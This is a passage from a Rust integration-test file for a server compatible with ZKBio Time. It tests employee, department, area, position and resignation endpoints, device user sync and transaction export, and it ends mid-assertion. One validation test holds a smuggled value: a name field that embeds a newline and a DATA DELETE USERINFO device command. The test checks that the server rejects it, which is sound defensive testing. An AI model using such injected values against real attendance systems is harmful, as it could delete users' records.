//! The personnel API through the real binary: ZKBio Time's record shapes (checked key by key
//! against `biotime_api.md` §2.5–2.7 and §3.3/3.4), filters and pagination, DRF validation
//! errors, resignation (punches kept) and reinstatement, device `USER` lines appearing in the
//! roster, terminal areas, and the transactions export.

use crate::common;

use common::{Api, Device, Server, eventually};
use serde_json::{Value, json};

/// Checks that `raw` (a JSON text) carries `expected` keys in that order, each the first
/// occurrence after the previous one (the parsed `Value` does not keep key order).
fn assert_key_order(raw: &str, expected: &[&str]) {
    let mut at = 0;
    for key in expected {
        let needle = format!("\"{key}\":");
        match raw[at..].find(&needle) {
            Some(found) => at += found + needle.len(),
            None => panic!("key {key:?} missing or out of order in {raw}"),
        }
    }
}

/// GET returning the raw JSON text and the parsed value.
async fn get_raw(api: &Api, path: &str) -> (String, Value) {
    let response = api
        .client
        .get(format!("http://{}{}", api.server_addr, path))
        .header("Authorization", format!("Token {}", api.token))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "GET {path}");
    let text = response.text().await.unwrap();
    let value = serde_json::from_str(&text).unwrap();
    (text, value)
}

/// The keys of a JSON object (sorted: `Value` does not keep their order).
fn keys(v: &Value) -> Vec<&str> {
    v.as_object().unwrap_or_else(|| panic!("not an object: {v}")).keys().map(String::as_str).collect()
}

fn sorted(mut list: Vec<&str>) -> Vec<&str> {
    list.sort_unstable();
    list
}

/// §3.3, the 9.x employee record.
const EMPLOYEE_FIELDS: [&str; 40] = [
    "id",
    "emp_code",
    "first_name",
    "last_name",
    "nickname",
    "format_name",
    "photo",
    "full_name",
    "device_password",
    "card_no",
    "department",
    "position",
    "hire_date",
    "gender",
    "birthday",
    "verify_mode",
    "emp_type",
    "contact_tel",
    "office_tel",
    "mobile",
    "national",
    "city",
    "address",
    "postcode",
    "email",
    "enroll_sn",
    "ssn",
    "religion",
    "attemployee",
    "dev_privilege",
    "area",
    "app_status",
    "app_role",
    "update_time",
    "fingerprint",
    "face",
    "palm",
    "vl_face",
    "vl_palm",
    "vl_face_photo",
];

async fn create(api: &Api, path: &str, body: Value) -> Value {
    let (status, answer) = api.post_json(path, &body).await;
    assert_eq!(status, 201, "POST {path} {body}: {answer}");
    answer
}

/// Area 2 "HQ", department 2 "Sales", position 1 "Clerk", and three employees.
async fn seed(api: &Api) -> (i64, i64, i64) {
    let area = create(api, "/personnel/api/areas/", json!({ "area_code": "HQ", "area_name": "Head office" })).await;
    let dept = create(api, "/personnel/api/departments/", json!({ "dept_code": "S", "dept_name": "Sales" })).await;
    let pos = create(api, "/personnel/api/positions/", json!({ "position_code": "C", "position_name": "Clerk" })).await;
    let (area, dept, pos) = (area["id"].as_i64().unwrap(), dept["id"].as_i64().unwrap(), pos["id"].as_i64().unwrap());
    create(
        api,
        "/personnel/api/employees/",
        json!({ "emp_code": "0042", "first_name": "Ann", "last_name": "Lee", "department": dept, "area": [area],
                "position": pos, "card_no": "[15CD5B07]", "device_password": "4321", "hire_date": "2026-01-05",
                "gender": "F", "email": null }),
    )
    .await;
    create(
        api,
        "/personnel/api/employees/",
        json!({ "emp_code": "1001", "first_name": "Bo", "department": 1, "area": [1] }),
    )
    .await;
    create(
        api,
        "/personnel/api/employees/",
        json!({ "emp_code": "1002", "first_name": "Cy", "department": dept, "area": [1, area] }),
    )
    .await;
    (area, dept, pos)
}

#[tokio::test]
async fn employee_record_shape_filters_and_pagination() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let (area, dept, pos) = seed(&api).await;

    let (raw, page) = get_raw(&api, "/personnel/api/employees/?emp_code=0042").await;
    assert_key_order(&raw, &["count", "next", "previous", "msg", "code", "data"]);
    assert_eq!(sorted(keys(&page)), sorted(vec!["count", "next", "previous", "msg", "code", "data"]));
    assert_eq!(page["count"], 1);
    let ann = &page["data"][0];
    assert_key_order(&raw, &EMPLOYEE_FIELDS);
    assert_eq!(keys(ann), sorted(EMPLOYEE_FIELDS.to_vec()));
    let mut stable = ann.clone();
    let id = stable["id"].as_i64().unwrap();
    assert!(stable["update_time"].as_str().unwrap().len() == 19, "{}", stable["update_time"]);
    stable["update_time"] = json!("<time>");
    assert_eq!(
        stable,
        json!({
            "id": id, "emp_code": "0042", "first_name": "Ann", "last_name": "Lee", "nickname": "",
            "format_name": "0042 Ann", "photo": "", "full_name": "Ann Lee", "device_password": null,
            "card_no": "[15CD5B07]",
            "department": { "id": dept, "dept_code": "S", "dept_name": "Sales" },
            "position": { "id": pos, "position_code": "C", "position_name": "Clerk" },
            "hire_date": "2026-01-05", "gender": "F", "birthday": null, "verify_mode": -1, "emp_type": null,
            "contact_tel": "", "office_tel": "", "mobile": "", "national": "", "city": "", "address": "",
            "postcode": "", "email": "", "enroll_sn": "", "ssn": "", "religion": "",
            "attemployee": { "id": id, "enable_attendance": true, "enable_overtime": true, "enable_holiday": true,
                             "enable_schedule": true },
            "dev_privilege": 0,
            "area": [{ "id": area, "area_code": "HQ", "area_name": "Head office" }],
            "app_status": 0, "app_role": 1, "update_time": "<time>",
            "fingerprint": "-", "face": "-", "palm": "-", "vl_face": "-", "vl_palm": "-", "vl_face_photo": "-"
        })
    );
    // The device password is kept for the devices and never shown, not even on detail.
    let detail = api.get(&format!("/personnel/api/employees/{id}/")).await;
    assert_eq!(detail["device_password"], Value::Null);
    assert_eq!(detail["emp_code"], "0042");
    assert!(!detail.to_string().contains("4321"));

    // Filters.
    let codes = |v: &Value| -> Vec<String> {
        v["data"].as_array().unwrap().iter().map(|e| e["emp_code"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(codes(&api.get("/personnel/api/employees/?emp_code_icontains=100").await), ["1001", "1002"]);
    assert_eq!(codes(&api.get(&format!("/personnel/api/employees/?department={dept}")).await), ["0042", "1002"]);
    assert_eq!(codes(&api.get(&format!("/personnel/api/employees/?areas={area}")).await), ["0042", "1002"]);
    assert_eq!(codes(&api.get("/personnel/api/employees/?first_name_icontains=B").await), ["1001"]);
    assert_eq!(codes(&api.get("/personnel/api/employees/?last_name=Lee").await), ["0042"]);
    assert_eq!(api.get("/personnel/api/employees/?emp_code=42").await["count"], 0, "exact match keeps leading zeros");

    // Pagination as on transactions: absolute links keeping the parameters, 404 past the end.
    let first = api.get("/personnel/api/employees/?page_size=2&&ordering=x").await;
    assert_eq!(first["count"], 3);
    assert_eq!(codes(&first), ["0042", "1001"]);
    let next = first["next"].as_str().unwrap();
    assert_eq!(next, server.url("/personnel/api/employees/?page_size=2&ordering=x&page=2"));
    assert_eq!(first["previous"], Value::Null);
    let second = api.get(next.trim_start_matches(&format!("http://{}", server.addr))).await;
    assert_eq!(codes(&second), ["1002"]);
    assert_eq!(second["next"], Value::Null);
    assert_eq!(second["previous"].as_str().unwrap(), server.url("/personnel/api/employees/?page_size=2&ordering=x"));
    let (status, body) = api.get_status("/personnel/api/employees/?page=3&page_size=2").await;
    assert_eq!((status, body), (404, json!({ "detail": "Invalid page." })));

    // Without the trailing slash, and unknown ids.
    assert_eq!(api.get("/personnel/api/employees").await["count"], 3);
    assert_eq!(api.get_status("/personnel/api/employees/999/").await, (404, json!({ "detail": "Not found." })));
    assert_eq!(api.get_status("/personnel/api/employees/abc/").await.0, 404);
    // Auth on every route.
    let anonymous = reqwest::get(server.url("/personnel/api/employees/")).await.unwrap();
    assert_eq!(anonymous.status(), 401);
}

#[tokio::test]
async fn employee_writes_and_validation_errors() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let (area, _, _) = seed(&api).await;

    let (status, body) = api.post_json("/personnel/api/employees/", &json!({ "first_name": "X" })).await;
    assert_eq!(status, 400);
    assert_eq!(sorted(keys(&body)), ["area", "department", "emp_code"]);
    assert_eq!(body["emp_code"], json!(["This field is required."]));

    let (status, body) = api
        .post_json(
            "/personnel/api/employees/",
            &json!({ "emp_code": "7 7", "first_name": "Evil\tName\nDATA DELETE USERINFO PIN=1", "department": 99,
                     "area": [1, 77], "hire_date": "2026-02-30", "email": "nope", "app_status": true }),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        sorted(keys(&body)),
        ["app_status", "area", "department", "email", "emp_code", "first_name", "hire_date"]
    );
    assert_eq!(body["department"], json!(["Invalid pk \"99\" - object does not exist."]));
    assert_eq!(body["area"], json!(["Invalid pk \"77\" - object does not exist."]));

    // A card belongs to one employee.
    let (status, body) = api
        .post_json(
            "/personnel/api/employees/",
            &json!({ "emp_code": "2000", "card_no": "[15CD5B07]", "department": 1, "area": [1] }),
        )
        .await;
    assert_eq!((status, body), (400, json!({ "Update Failed": "Duplicate card number with 0042" })));

    // Create with a known code updates (9.x), answering 200; PATCH and partial PUT change only
    // what they carry; emp_code cannot change.
    let (status, body) = api
        .post_json(
            "/personnel/api/employees/",
            &json!({ "emp_code": "1001", "first_name": "Bob", "department": 1, "area": [area] }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let id = body["id"].as_i64().unwrap();
    assert_eq!((body["first_name"].as_str(), body["area"][0]["id"].as_i64()), (Some("Bob"), Some(area)));
    let (status, body) = api
        .patch_json(&format!("/personnel/api/employees/{id}/"), &json!({ "last_name": "Ross", "emp_code": "9" }))
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        (body["first_name"].as_str(), body["last_name"].as_str(), body["emp_code"].as_str()),
        (Some("Bob"), Some("Ross"), Some("1001"))
    );
    let (status, body) = api
        .send(
            reqwest::Method::PUT,
            &format!("/personnel/api/employees/{id}"),
            Some(&json!({ "mobile": "555-0100", "area": [1] })),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        (body["mobile"].as_str(), body["last_name"].as_str(), body["area"][0]["id"].as_i64()),
        (Some("555-0100"), Some("Ross"), Some(1))
    );
    let (status, body) = api.patch_json(&format!("/personnel/api/employees/{id}/"), &json!({ "area": [] })).await;
    assert_eq!((status, body), (400, json!({ "area": ["This list may not be empty."] })));

    // Form-encoded create (one ZKBio Time client does that).
    let response = api
        .client
        .post(server.url("/personnel/api/employees/"))
        .header("Authorization", format!("Token {}", api.token))
        .form(&[("emp_code", "3000"), ("first_name", "Form"), ("department", "1"), ("area", "1")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);

    // DELETE: 204, then gone; recreating the code brings a fresh active employee back.
    assert_eq!(api.delete(&format!("/personnel/api/employees/{id}/")).await.0, 204);
    assert_eq!(api.get_status(&format!("/personnel/api/employees/{id}/")).await.0, 404);
    assert_eq!(api.delete(&format!("/personnel/api/employees/{id}/")).await.0, 404);
    assert_eq!(api.get("/personnel/api/employees/?emp_code=1001").await["count"], 0);
    let again =
        create(&api, "/personnel/api/employees/", json!({ "emp_code": "1001", "department": 1, "area": [1] })).await;
    assert_eq!(again["id"].as_i64(), Some(id));

    // Actions check every id, with ZKBio Time's nested message.
    let (status, body) =
        api.post_json("/personnel/api/employees/resync_to_device/", &json!({ "employees": [id, 4040] })).await;
    assert_eq!(
        (status, body),
        (400, json!({ "employees": { "employees": "Invalid pk \"4040\" - object does not exist." } }))
    );
    let (status, body) =
        api.post_json("/personnel/api/employees/resync_to_device/", &json!({ "employees": [id] })).await;
    assert_eq!((status, body), (200, json!({ "detail": "Success." })));
    let (status, _) = api
        .post_json(
            "/personnel/api/employees/del_bio_template/",
            &json!({ "employees": [id], "finger_print": true, "face": "maybe" }),
        )
        .await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn resignation_keeps_punches_and_reinstatement_restores_the_employee() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let device = Device { server: &server, sn: "RSN0001".into() };
    device.handshake().await;
    let punches = b"1001\t2026-11-20 08:00:00\t0\t1\t0\t0\t0\n1001\t2026-11-20 17:00:00\t1\t1\t0\t0\t0\n";
    assert_eq!(device.attlog(punches).await.text(), "OK: 2");
    seed(&api).await;
    let bo = api.get("/personnel/api/employees/?emp_code=1001").await["data"][0]["id"].as_i64().unwrap();
    let cy = api.get("/personnel/api/employees/?emp_code=1002").await["data"][0]["id"].as_i64().unwrap();

    let (status, body) = api
        .post_json(
            "/personnel/api/employees/adjust_resign/",
            &json!({ "employees": [bo], "resign_date": "2026-11-30", "resign_type": 1, "reason": "moved", "disableatt": true }),
        )
        .await;
    assert_eq!((status, body), (200, json!({ "detail": "Success." })));
    // The 8.x spelling reaches the same action; an already resigned employee is refused.
    let (status, body) = api
        .post_json(
            "/personnel/api/employees/adjust_regsin/",
            &json!({ "employees": [bo], "resign_date": "2026-11-30", "resign_type": 1 }),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body, json!({ "employees": ["Employee 1001 has already resigned."] }));
    let (status, body) =
        api.post_json("/personnel/api/employees/adjust_regsin/", &json!({ "employees": [cy], "resign_type": 9 })).await;
    assert_eq!(status, 400);
    assert_eq!(sorted(keys(&body)), ["resign_date", "resign_type"]);

    // Off the employee list, on the resign list, and every punch kept.
    assert_eq!(api.get("/personnel/api/employees/?emp_code=1001").await["count"], 0);
    assert_eq!(api.get(&format!("/personnel/api/employees/{bo}/")).await["attemployee"]["enable_attendance"], false);
    let resigns = api.get("/personnel/api/resigns/").await;
    assert_eq!(resigns["count"], 1);
    let resign = &resigns["data"][0];
    let resign_id = resign["id"].as_i64().unwrap();
    assert_eq!(
        resign,
        &json!({ "id": resign_id, "resign_date": "2026-11-30", "resign_type": 1, "disableatt": true, "reason": "moved",
                 "employee": { "id": bo, "emp_code": "1001", "first_name": "Bo", "last_name": "" },
                 "first_name": "Bo", "last_name": "" })
    );
    assert_eq!(api.transactions("emp_code=1001").await.len(), 2);
    assert_eq!(api.get(&format!("/personnel/api/resigns/?employee={bo}")).await["count"], 1);
    assert_eq!(api.get("/personnel/api/resigns/?resign_type=2").await["count"], 0);

    // PUT edits, reinstatement brings the employee back.
    let (status, body) = api
        .send(reqwest::Method::PUT, &format!("/personnel/api/resigns/{resign_id}/"), Some(&json!({ "resign_type": 3 })))
        .await;
    assert_eq!((status, body["resign_type"].as_i64(), body["reason"].as_str()), (200, Some(3), Some("moved")));
    let (status, body) =
        api.post_json("/personnel/api/resigns/reinstatement/", &json!({ "resigns": [resign_id] })).await;
    assert_eq!((status, body), (200, json!({ "detail": "Success." })));
    assert_eq!(api.get("/personnel/api/employees/?emp_code=1001").await["count"], 1);
    assert_eq!(api.get("/personnel/api/resigns/").await["count"], 0);
    let (status, _) = api.post_json("/personnel/api/resigns/reinstatement/", &json!({ "resigns": [resign_id] })).await;
    assert_eq!(status, 400, "a closed resignation is not reinstated twice");

    // POST /resigns/ and DELETE (withdraws it: the employee is active again).
    let created = create(
        &api,
        "/personnel/api/resigns/",
        json!({ "employee": cy, "resign_date": "2026-12-01", "resign_type": 2, "disableatt": false }),
    )
    .await;
    let (raw, _) = get_raw(&api, &format!("/personnel/api/resigns/{}/", created["id"])).await;
    let resign_fields =
        ["id", "resign_date", "resign_type", "disableatt", "reason", "employee", "first_name", "last_name"];
    assert_key_order(&raw, &resign_fields);
    assert_eq!(keys(&created), sorted(resign_fields.to_vec()));
    assert_eq!(api.get("/personnel/api/employees/?emp_code=1002").await["count"], 0);
    assert_eq!(api.delete(&format!("/personnel/api/resigns/{}/", created["id"])).await.0, 204);
    assert_eq!(api.get("/personnel/api/employees/?emp_code=1002").await["count"], 1);
    assert_eq!(api.transactions("").await.len(), 2);
}

#[tokio::test]
async fn departments_areas_positions_crud_and_shapes() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;

    // The built-in department and area exist from the start.
    let (raw, departments) = get_raw(&api, "/personnel/api/departments/").await;
    assert_key_order(
        &raw,
        &["count", "next", "previous", "msg", "code", "data", "id", "dept_code", "dept_name", "parent_dept"],
    );
    assert_eq!(
        departments["data"],
        json!([{ "id": 1, "dept_code": "1", "dept_name": "Department", "parent_dept": null }])
    );
    let areas = api.get("/personnel/api/areas/").await;
    assert_eq!(
        areas["data"],
        json!([{ "id": 1, "area_code": "1", "area_name": "Not Authorized", "parent_area": null, "parent_area_name": null }])
    );

    let sales = create(&api, "/personnel/api/departments/", json!({ "dept_code": "S", "dept_name": "Sales" })).await;
    let emea = create(
        &api,
        "/personnel/api/departments/",
        json!({ "dept_code": "SE", "dept_name": "Sales EMEA", "parent_dept": sales["id"] }),
    )
    .await;
    assert_eq!(
        emea,
        json!({ "id": emea["id"], "dept_code": "SE", "dept_name": "Sales EMEA",
                "parent_dept": { "id": sales["id"], "dept_code": "S", "dept_name": "Sales", "parent_dept": null } })
    );
    let (status, body) =
        api.post_json("/personnel/api/departments/", &json!({ "dept_code": "S", "dept_name": "Again" })).await;
    assert_eq!((status, body), (400, json!({ "dept_code": ["department with this dept_code already exists."] })));
    let (status, body) = api.post_json("/personnel/api/departments/", &json!({ "dept_name": "" })).await;
    assert_eq!(status, 400);
    assert_eq!(sorted(keys(&body)), ["dept_code", "dept_name"]);
    // A department cannot become its own descendant's child; the code is read-only on edit.
    let (status, _) = api
        .patch_json(&format!("/personnel/api/departments/{}/", sales["id"]), &json!({ "parent_dept": emea["id"] }))
        .await;
    assert_eq!(status, 400);
    let (status, body) = api
        .patch_json(
            &format!("/personnel/api/departments/{}/", sales["id"]),
            &json!({ "dept_code": "Z", "dept_name": "Sales & Co" }),
        )
        .await;
    assert_eq!((status, body["dept_code"].as_str(), body["dept_name"].as_str()), (200, Some("S"), Some("Sales & Co")));
    // In use: refused; unused: 204.
    let (status, _) = api.delete(&format!("/personnel/api/departments/{}/", sales["id"])).await;
    assert_eq!(status, 400);
    assert_eq!(api.delete(&format!("/personnel/api/departments/{}/", emea["id"])).await.0, 204);
    assert_eq!(api.delete(&format!("/personnel/api/departments/{}/", sales["id"])).await.0, 204);
    assert_eq!(api.delete("/personnel/api/departments/1/").await.0, 400, "the default department stays");

    let north = create(&api, "/personnel/api/areas/", json!({ "area_code": "N", "area_name": "North" })).await;
    let depot = create(
        &api,
        "/personnel/api/areas/",
        json!({ "area_code": "ND", "area_name": "North depot", "parent_area": north["id"] }),
    )
    .await;
    let (raw, listed) = get_raw(&api, &format!("/personnel/api/areas/{}/", depot["id"])).await;
    assert_key_order(&raw, &["id", "area_code", "area_name", "parent_area", "parent_area_name"]);
    assert_eq!(listed, depot);
    assert_eq!(depot["parent_area_name"], "North");
    let by_name = api.get("/personnel/api/areas/?ordering=-area_name").await;
    let names: Vec<&str> =
        by_name["data"].as_array().unwrap().iter().map(|a| a["area_name"].as_str().unwrap()).collect();
    assert_eq!(names, ["Not Authorized", "North depot", "North"]);
    assert_eq!(api.get("/personnel/api/areas/?area_name_icontains=DEPOT").await["count"], 1);
    assert_eq!(api.get("/personnel/api/areas/?area_code=N").await["count"], 1);

    let clerk =
        create(&api, "/personnel/api/positions/", json!({ "position_code": "C", "position_name": "Clerk" })).await;
    let senior = create(
        &api,
        "/personnel/api/positions/",
        json!({ "position_code": "SC", "position_name": "Senior clerk", "parent_position": clerk["id"] }),
    )
    .await;
    assert_eq!(
        senior,
        json!({ "id": senior["id"], "position_code": "SC", "position_name": "Senior clerk",
                "parent_position": { "id": clerk["id"], "position_code": "C", "position_name": "Clerk", "parent_position": null },
                "parent_position_name": "Clerk" })
    );
    let (raw, _) = get_raw(&api, &format!("/personnel/api/positions/{}/", senior["id"])).await;
    assert_key_order(
        &raw,
        &[
            "id",
            "position_code",
            "position_name",
            "parent_position",
            "id",
            "position_code",
            "position_name",
            "parent_position",
            "parent_position_name",
        ],
    );
    let (status, body) = api
        .send(
            reqwest::Method::PUT,
            &format!("/personnel/api/positions/{}", clerk["id"]),
            Some(&json!({ "position_code": "CL" })),
        )
        .await;
    assert_eq!(
        (status, body["position_code"].as_str(), body["position_name"].as_str()),
        (200, Some("CL"), Some("Clerk"))
    );
    assert_eq!(api.get_status("/personnel/api/positions/999/").await, (404, json!({ "detail": "Not found." })));
}

#[tokio::test]
async fn device_users_appear_in_the_roster_without_overwriting_the_erp() {
    let dir = tempfile::tempdir().unwrap();
    // The operator adopts everything approved terminals report, administrators included (the
    // default only observes: see `device_trust`).
    let server = Server::in_process(
        dir.path(),
        &[("ADMS_DEVICE_USERS", "adopt_all"), ("ADMS_DEVICE_USERS_ALLOW_ADMIN", "true")],
    )
    .await;
    let api = Api::login(&server).await;
    let device = Device { server: &server, sn: "RSN0002".into() };
    device.handshake().await;
    let path = format!("/iclock/cdata?SN={}&table=OPERLOG&Stamp=1", device.sn);
    let users = "USER PIN=016\tName=Ann\tPri=14\tPasswd=4321\tCard=[15CD5B07]\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n\
                 USER PIN=0017\tName=Ben\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n";
    assert_eq!(device.post(&path, users.as_bytes()).await.status, 200);

    let ann = api.get("/personnel/api/employees/?emp_code=016").await;
    assert_eq!(ann["count"], 1, "{ann}");
    let ann = &ann["data"][0];
    assert_eq!(
        (ann["first_name"].as_str(), ann["dev_privilege"].as_i64(), ann["card_no"].as_str()),
        (Some("Ann"), Some(14), Some("[15CD5B07]"))
    );
    assert_eq!(ann["department"]["id"], 1);
    assert_eq!(ann["area"], json!([{ "id": 1, "area_code": "1", "area_name": "Not Authorized" }]));
    assert_eq!(ann["device_password"], Value::Null);
    assert_eq!(api.get("/personnel/api/employees/?emp_code=0017").await["count"], 1);

    // A device-only employee follows the device...
    let renamed =
        "USER PIN=0017\tName=Benjamin\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n";
    device.post(&path, renamed.as_bytes()).await;
    assert_eq!(api.get("/personnel/api/employees/?emp_code=0017").await["data"][0]["first_name"], "Benjamin");
    // ...until the ERP edits it: from then on the ERP's values stay.
    let id = ann["id"].as_i64().unwrap();
    let (status, _) =
        api.patch_json(&format!("/personnel/api/employees/{id}/"), &json!({ "first_name": "Annette" })).await;
    assert_eq!(status, 200);
    let changed = "USER PIN=016\tName=Anna\tPri=0\tPasswd=4321\tCard=[15CD5B07]\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n";
    device.post(&path, changed.as_bytes()).await;
    let ann = api.get(&format!("/personnel/api/employees/{id}/")).await;
    assert_eq!((ann["first_name"].as_str(), ann["dev_privilege"].as_i64()), (Some("Annette"), Some(14)));

    // A deleted employee is not brought back by the device re-sending an old line.
    let ben = api.get("/personnel/api/employees/?emp_code=0017").await["data"][0]["id"].as_i64().unwrap();
    assert_eq!(api.delete(&format!("/personnel/api/employees/{ben}/")).await.0, 204);
    device.post(&path, renamed.as_bytes()).await;
    assert_eq!(api.get("/personnel/api/employees/?emp_code=0017").await["count"], 0);
}

#[tokio::test]
async fn terminals_belong_to_areas_and_transactions_export_as_csv_txt_and_xlsx() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let device = Device { server: &server, sn: "RSN0003".into() };
    device.handshake().await;
    let punches = b"0042\t2026-11-20 08:00:00\t0\t1\t0\t0\t0\n0042\t2026-11-20 12:00:00\t2\t15\t0\t0\t0\n7\t2026-11-21 08:00:00\t0\t1\t0\t0\t0\n";
    assert_eq!(device.attlog(punches).await.text(), "OK: 3");
    let (area, _, _) = seed(&api).await;

    let terminal = api.get("/iclock/api/terminals/").await["data"][0].clone();
    assert_eq!(terminal["area"], json!({ "id": 1, "area_code": "1", "area_name": "Not Authorized" }));
    let id = terminal["id"].as_i64().unwrap();
    let (status, body) =
        api.patch_json(&format!("/iclock/api/terminals/{id}/"), &json!({ "area": area, "alias": "Front door" })).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["area"], json!({ "id": area, "area_code": "HQ", "area_name": "Head office" }));
    assert_eq!((body["area_name"].as_str(), body["alias"].as_str()), (Some("Head office"), Some("Front door")));
    let (status, body) = api.patch_json(&format!("/iclock/api/terminals/{id}/"), &json!({ "area": 999 })).await;
    assert_eq!((status, body), (400, json!({ "area": ["Invalid pk \"999\" - object does not exist."] })));
    // Transactions carry the roster: employee, names, department, position, terminal area.
    let ann = api.get("/personnel/api/employees/?emp_code=0042").await["data"][0].clone();
    let punch = api.transactions("emp_code=0042").await[0].clone();
    assert_eq!(
        [
            &punch["emp"],
            &punch["first_name"],
            &punch["last_name"],
            &punch["department"],
            &punch["position"],
            &punch["area_alias"]
        ],
        [&ann["id"], &json!("Ann"), &json!("Lee"), &json!("Sales"), &json!("Clerk"), &json!("Head office")]
    );
    let stranger = api.transactions("emp_code=7").await[0].clone();
    assert_eq!(
        [&stranger["emp"], &stranger["first_name"], &stranger["department"]],
        [&Value::Null, &Value::Null, &Value::Null]
    );
    // An area with a terminal in it cannot be deleted.
    assert_eq!(api.delete(&format!("/personnel/api/areas/{area}/")).await.0, 400);

    let export = |query: &'static str| {
        let api = &api;
        async move {
            let response = api
                .client
                .get(format!("http://{}/iclock/api/transactions/export/?{query}", api.server_addr))
                .header("Authorization", format!("Token {}", api.token))
                .send()
                .await
                .unwrap();
            let status = response.status().as_u16();
            let content_type = response.headers().get("content-type").map(|v| v.to_str().unwrap().to_owned());
            (status, content_type, response.text().await.unwrap())
        }
    };
    let (status, content_type, csv) = export("export_type=csv&emp_code=0042").await;
    assert_eq!(status, 200);
    assert_eq!(content_type.as_deref(), Some("text/csv; charset=utf-8"));
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 3, "{csv}");
    assert!(
        lines[0].starts_with(
            "id,emp,emp_code,first_name,last_name,department,position,punch_time,punch_state,punch_state_display,"
        ),
        "{}",
        lines[0]
    );
    let listed = api.transactions("emp_code=0042").await;
    for (line, record) in lines[1..].iter().zip(&listed) {
        let fields: Vec<&str> = line.split(',').collect();
        assert_eq!(fields[0], record["id"].to_string());
        assert_eq!(fields[2], "0042", "leading zeros kept");
        assert_eq!(fields[7], record["punch_time"].as_str().unwrap());
        assert_eq!(fields[9], record["punch_state_display"].as_str().unwrap());
    }
    let (_, _, txt) = export("export_type=txt&start_time=2026-11-21").await;
    assert_eq!(txt.lines().count(), 2, "{txt}");
    assert!(txt.lines().nth(1).unwrap().split('\t').nth(2) == Some("7"));
    // The spreadsheet, read back by an independent reader (calamine): same rows, PINs as text.
    let response = api
        .client
        .get(format!("http://{}/iclock/api/transactions/export/?export_type=xls&emp_code=0042", api.server_addr))
        .header("Authorization", format!("Token {}", api.token))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert_eq!(response.headers()["content-type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    assert!(response.headers()["content-disposition"].to_str().unwrap().contains("transactions.xlsx"));
    let bytes = response.bytes().await.unwrap().to_vec();
    let mut workbook =
        <calamine::Xlsx<_> as calamine::Reader<_>>::new(std::io::Cursor::new(bytes)).expect("a valid xlsx file");
    let sheet = calamine::Reader::worksheet_range(&mut workbook, "transactions").expect("worksheet");
    let rows: Vec<Vec<calamine::Data>> = sheet.rows().map(<[calamine::Data]>::to_vec).collect();
    assert_eq!(rows.len(), 3, "{rows:?}");
    let header: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    assert_eq!(&header[..4], ["id", "emp", "emp_code", "first_name"]);
    for (row, record) in rows[1..].iter().zip(&listed) {
        assert_eq!(row[0], calamine::Data::Float(record["id"].as_f64().unwrap()), "ids are numbers");
        assert_eq!(row[2], calamine::Data::String("0042".into()), "PIN kept as text with its zeros");
        assert!(matches!(row[7], calamine::Data::DateTime(_)), "punch_time is a date-time cell: {:?}", row[7]);
        assert_eq!(row[9].to_string(), record["punch_state_display"].as_str().unwrap());
    }
    let (status, _, body) = export("page=1").await;
    assert_eq!(status, 400);
    assert!(body.contains("export_type"), "{body}");
    let (status, _, _) = export("export_type=pdf").await;
    assert_eq!(status, 400);
}

/// The `C:<id>:<command>` lines of a poll reply.
fn command_lines(reply: &str) -> Vec<(i64, String)> {
    reply
        .lines()
        .filter_map(|l| l.strip_prefix("C:"))
        .filter_map(|l| l.split_once(':'))
        .map(|(id, cmd)| (id.parse().expect("command id"), cmd.to_owned()))
        .collect()
}

#[tokio::test]
async fn roster_changes_reach_the_terminals_of_the_area_as_commands() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let gate = Device { server: &server, sn: "RSN0010".into() };
    let office = Device { server: &server, sn: "RSN0011".into() };
    gate.handshake().await;
    office.handshake().await;
    let hq = create(&api, "/personnel/api/areas/", json!({ "area_code": "HQ", "area_name": "HQ" })).await["id"]
        .as_i64()
        .unwrap();
    let yard = create(&api, "/personnel/api/areas/", json!({ "area_code": "YARD", "area_name": "Yard" })).await["id"]
        .as_i64()
        .unwrap();
    for (sn, area) in [("RSN0011", hq), ("RSN0010", yard)] {
        let id = api.get(&format!("/iclock/api/terminals/?sn={sn}")).await["data"][0]["id"].as_i64().unwrap();
        assert_eq!(api.patch_json(&format!("/iclock/api/terminals/{id}/"), &json!({ "area": area })).await.0, 200);
    }
    let poll = |d: &Device<'_>| format!("/iclock/getrequest?SN={}", d.sn);

    // Create in the yard: the gate's next poll carries the user, the office's nothing.
    let ann = create(
        &api,
        "/personnel/api/employees/",
        json!({ "emp_code": "0042", "first_name": "Ann", "last_name": "Lee", "department": 1, "area": [yard],
                "card_no": "123456", "device_password": "4321" }),
    )
    .await;
    let lines = command_lines(&gate.get(&poll(&gate)).await.text());
    assert_eq!(lines.len(), 1, "{lines:?}");
    let (id, line) = &lines[0];
    assert_eq!(
        line,
